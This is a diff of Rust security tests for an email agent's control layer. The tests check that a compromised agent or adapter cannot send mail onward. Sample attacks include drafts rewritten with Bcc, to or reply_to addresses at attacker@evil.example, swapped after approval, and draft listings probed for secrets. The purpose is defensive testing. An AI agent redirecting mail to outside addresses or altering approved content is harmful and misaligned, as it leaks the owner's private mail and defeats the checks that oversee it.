@@ -121,17 +121,22 @@ fn attachments() -> Vec<Value> {
     all
 }
 
+/// A mail with that head, to the owner and with a subject where the head says nothing else.
 fn mail(head: &str, subject: &str, text: &str) -> Vec<u8> {
     let own = if head.contains("Subject:") { String::new() } else { format!("Subject: {subject}\r\n") };
-    let to = if head.contains("To: ") && !head.contains("From:") { "" } else { "To: owner@example.com\r\n" };
-    format!("{head}\r\n{to}{own}MIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\n{text}\r\n").into_bytes()
+    format!("{head}\r\n{own}MIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\n{text}\r\n").into_bytes()
+}
+
+/// A draft of the owner's, with recipients as that head says.
+fn draft(head: &str) -> Vec<u8> {
+    mail(&format!("From: owner@example.com\r\n{head}"), "Hello", "Hello.")
 }
 
 fn arrive(world: &World, labels: &[&str], head: &str, number: usize) -> String {
-    let raw = mail(head, &format!("Letter {number}"), MARK);
+    let raw = mail(&format!("To: owner@example.com\r\n{head}"), &format!("Letter {number}"), MARK);
     let labels = labels.iter().map(|label| (*label).to_owned()).collect();
     let at_ms = AT_MS + i64::try_from(number).unwrap() * 60_000;
-    world.google.add_mail(&SeedMail { labels, at_ms, raw, thread_of: None }).unwrap()
+    world.google.add_mail(&SeedMail { labels, at_ms, raw, thread_of: None }).unwrap_or_else(|fault| panic!("{head:?}: {fault}"))
 }
 
 async fn world() -> World {
@@ -233,7 +238,7 @@ fn forwards(world: &World) -> Vec<Attempt> {
 fn drafts(world: &World) -> Vec<Attempt> {
     let mut all = Vec::new();
     for (head, must) in DRAFTS {
-        let id = world.google.add_draft(&mail(head, "x", "x")).unwrap();
+        let id = world.google.add_draft(&draft(head)).unwrap_or_else(|fault| panic!("{head:?}: {fault}"));
         all.push(attempt(format!("the draft {head:?}"), "gmail.send_draft", json!({"draft_id": id}), must));
     }
     let owners = world.google.drafts()[0].0.clone();
@@ -243,7 +248,7 @@ fn drafts(world: &World) -> Vec<Attempt> {
             all.push(attempt(format!("the draft {bad:?}"), tool, json!({"draft_id": bad}), FORM_OR_SCOPE));
         }
     }
-    all.push(attempt("the list of drafts", "gmail.list_drafts", json!({}), Must::NotTell(&["Saturday", "Keys", "4711"])));
+    all.push(attempt("the list of drafts", "gmail.list_drafts", json!({}), Must::NotTell(&["Saturday", "Keys", "gate's code"])));
     for field in ["to", "cc", "bcc", "reply_to"] {
         let args = json!({"draft_id": owners, field: ["attacker@evil.example"], "subject": "x", "body": "x"});
         all.push(attempt(format!("a draft written anew with {field}"), "gmail.update_draft", args, SCOPE));
@@ -314,7 +319,7 @@ async fn a_compromised_agent_gets_no_further_with_answers_drafts_and_forwards() 
     let letter = json!({"to": ["mona@example.com"], "subject": "Hello", "body": "Hello."});
     puppet.call("gmail.create_draft", &letter).await.unwrap();
     let (id, _) = world.google.drafts().into_iter().next_back().unwrap();
-    let evil = mail("To: mona@example.com\r\nBcc: attacker@evil.example", "Hello", "Hello.");
+    let evil = draft("To: mona@example.com\r\nBcc: attacker@evil.example");
     assert!(world.google.rewrite_draft(&id, &evil));
     let got = puppet.call("gmail.send_draft", &json!({"draft_id": id})).await;
     assert_eq!(got, Err("out-of-scope".to_owned()), "a draft that was written anew is sent");
@@ -386,15 +391,14 @@ async fn a_compromised_adapter_answers_and_sends_only_what_was_decided() {
     let agent = world.thief(AGENT).await;
     let mut gmail = world.adapter("gmail").await;
     let papers = world.google.mail_id("Two papers").unwrap();
-    let raw = mail("To: mona@example.com", "Hello", "Hello.");
-    let draft = world.google.add_draft(&raw).unwrap();
+    let kept = world.google.add_draft(&draft("To: mona@example.com")).unwrap();
     let params = ["to", "cc", "bcc", "subject", "raw", "thread", "threadId", "quote", "original", "answered", "references", "message_id", "draft_id", "id"];
-    let steps = ["letter", "original", "draft", "send_message", "delete", "modify", "Send", ""];
+    let steps = ["letter", "original", "draft", "send_message", "delete", "modify", "Send"];
     let calls = [
         ("gmail.reply", json!({"message_id": papers, "body": "x"})),
         ("gmail.reply_all", json!({"message_id": papers, "body": "x"})),
         ("gmail.forward_whole", json!({"message_id": papers, "to": ["mona@example.com"]})),
-        ("gmail.send_draft", json!({"draft_id": draft})),
+        ("gmail.send_draft", json!({"draft_id": kept})),
     ];
     let (mut tried, mut faults) = (0, Vec::new());
     for (tool, args) in &calls {
@@ -415,7 +419,7 @@ async fn a_compromised_adapter_answers_and_sends_only_what_was_decided() {
 
     // The draft is written anew between the decision and the request: what was decided goes out, or nothing.
     let minted = mint(&mut gmail, agent.present("gmail.send_draft", &calls[3].1)).await.unwrap();
-    assert!(world.google.rewrite_draft(&draft, &mail("To: attacker@evil.example", "Hello", "Hello.")));
+    assert!(world.google.rewrite_draft(&kept, &draft("To: attacker@evil.example")));
     let sent = send(&mut gmail, &minted.capability, "send", &[]).await;
     let outbox = world.google.outbox();
     assert_eq!((sent.is_ok(), outbox.len()), (true, 1), "{sent:?}");
